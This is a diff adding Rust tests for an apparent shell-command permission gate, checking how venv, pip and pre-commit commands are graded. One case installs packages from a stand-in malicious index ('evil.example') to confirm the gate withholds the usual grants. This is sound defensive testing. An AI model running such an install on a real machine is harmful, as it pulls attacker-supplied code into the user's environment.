@@ -1,0 +1,150 @@
+//! Python project environments, Flask's and the migration tools' commands, and clients of
+//! services on this machine (gRPC, PostgreSQL's administration programs, GitHub's CI). Each
+//! lowering comes with its dangerous neighbours, which keep asking.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::indexing_slicing,
+    clippy::panic,
+    missing_docs
+)]
+
+use airlock_shell::{Level, ShellEnv, judge};
+
+const ENV: ShellEnv<'static> = ShellEnv::new(Some("/ws"), Some("/home/u"), &["/ws/.airlock"]);
+
+const PROJECT: &str = "project build/test/run";
+const ADD: &str = "registry add dependency";
+
+use Level::{Allow, AlwaysAsk, AskOnce};
+
+/// Judges every case (script, level, grant when it matters) and fails with all that differ.
+fn check(cases: &[(&str, Level, Option<&str>)]) {
+    let bad: Vec<String> = cases
+        .iter()
+        .filter_map(|(script, level, grant)| {
+            let v = judge(script, &ENV);
+            let grant_ok = grant.is_none_or(|g| v.grant.as_deref() == Some(g));
+            (v.level != *level || !grant_ok).then(|| {
+                format!(
+                    "{script:?}: want {level:?} {grant:?}, got {:?} {:?} `{}` ({})",
+                    v.level, v.grant, v.row, v.reason
+                )
+            })
+        })
+        .collect();
+    assert!(
+        bad.is_empty(),
+        "{} case(s) differ:\n{}",
+        bad.len(),
+        bad.join("\n")
+    );
+}
+
+/// A Python environment made inside the workspace is a folder the project's build makes; its
+/// own pip installs the project's requirements as the project family and a named package as
+/// the add-dependency family. An environment made outside the workspace, a user or system
+/// install, and another index keep asking.
+#[test]
+fn project_environments() {
+    check(&[
+        ("python -m venv .venv", AskOnce, Some(PROJECT)),
+        ("python3 -m venv .venv", AskOnce, Some(PROJECT)),
+        ("python3 -m venv venv --prompt api", AskOnce, Some(PROJECT)),
+        ("python3.12 -m venv .venv", AskOnce, None),
+        ("python3 -m virtualenv env", AskOnce, Some(PROJECT)),
+        ("virtualenv .venv", AskOnce, Some(PROJECT)),
+        ("virtualenv -p python3.11 venv", AskOnce, Some(PROJECT)),
+        ("uv venv", AskOnce, Some(PROJECT)),
+        ("uv venv .venv --python 3.12", AskOnce, Some(PROJECT)),
+        (
+            "python3 -m venv .venv && .venv/bin/pip install -r requirements.txt",
+            AskOnce,
+            Some(PROJECT),
+        ),
+        (
+            ".venv/bin/pip install -r requirements-dev.txt",
+            AskOnce,
+            Some(PROJECT),
+        ),
+        ("venv/bin/pip install -e .", AskOnce, Some(PROJECT)),
+        (
+            ".venv/bin/pip install -e '.[dev,test]'",
+            AskOnce,
+            Some(PROJECT),
+        ),
+        ("./.venv/bin/pip install .", AskOnce, Some(PROJECT)),
+        (
+            ".venv/bin/python -m pip install -r requirements.txt",
+            AskOnce,
+            Some(PROJECT),
+        ),
+        (".venv/bin/pip install pip-tools", AskOnce, Some(ADD)),
+        (
+            ".venv/bin/pip3 install 'requests>=2.31'",
+            AskOnce,
+            Some(ADD),
+        ),
+        (".venv/bin/pip list", AskOnce, None),
+        // Outside the workspace: asks every time.
+        ("python3 -m venv /opt/venv", AlwaysAsk, None),
+        ("python3 -m venv --clear ~/.venvs/api", AlwaysAsk, None),
+        ("python -m venv ../shared-env", AlwaysAsk, None),
+        ("python3 -m venv \"$HOME/venv\"", AlwaysAsk, None),
+        ("python3 -m virtualenv /srv/env", AlwaysAsk, None),
+        ("virtualenv /tmp/env", AlwaysAsk, None),
+        ("virtualenv ~/envs/x", AlwaysAsk, None),
+        ("uv venv /opt/env", AlwaysAsk, None),
+        // The environment's pip, with a user install or another index.
+        (".venv/bin/pip install --user requests", AlwaysAsk, None),
+        (
+            ".venv/bin/pip install --index-url https://evil.example/simple requests",
+            AskOnce,
+            None,
+        ),
+    ]);
+    let other_index = judge(
+        ".venv/bin/pip install --index-url https://evil.example/simple requests",
+        &ENV,
+    );
+    assert_ne!(other_index.grant.as_deref(), Some(ADD));
+    assert_ne!(other_index.grant.as_deref(), Some(PROJECT));
+}
+
+/// pre-commit: running the hooks is the project family; updating the pinned revisions is the
+/// add-dependency family; installing into `.git/hooks` asks once on its own (no family covers
+/// a hook); the global template directory always asks.
+#[test]
+fn pre_commit() {
+    check(&[
+        ("pre-commit run --all-files", AskOnce, Some(PROJECT)),
+        (
+            ".venv/bin/pre-commit run ruff --files app/x.py",
+            AskOnce,
+            Some(PROJECT),
+        ),
+        ("pre-commit autoupdate", AskOnce, Some(ADD)),
+        (".venv/bin/pre-commit autoupdate", AskOnce, Some(ADD)),
+        (
+            "pre-commit autoupdate --repo https://github.com/psf/black",
+            AskOnce,
+            None,
+        ),
+        ("prek autoupdate", AskOnce, Some(ADD)),
+        (
+            "pre-commit init-templatedir ~/.git-template",
+            AlwaysAsk,
+            None,
+        ),
+    ]);
+    for install in [
+        "pre-commit install",
+        ".venv/bin/pre-commit install",
+        "pre-commit install --hook-type pre-push",
+    ] {
+        let v = judge(install, &ENV);
+        assert_eq!(v.level, AskOnce, "{install}");
+        let grant = v.grant.unwrap_or_default();
+        assert!(grant != PROJECT && grant != ADD, "{install}: {grant}");
+    }
+}
